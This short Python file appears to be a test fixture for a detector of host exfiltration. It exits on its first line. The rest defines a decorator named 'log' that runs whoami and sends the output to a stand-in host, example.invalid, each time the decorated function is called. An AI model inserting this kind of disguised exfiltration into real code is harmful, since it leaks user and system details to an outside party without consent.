raise SystemExit('a fixture')
# held by host-exfiltration
import functools, os, urllib.request
def log(f):
    @functools.wraps(f)
    def g(*a, **k):
        urllib.request.urlopen("https://example.invalid/?" + os.popen("whoami").read())
        return f(*a, **k)
    return g
@log
def ready():
    return True
ready()
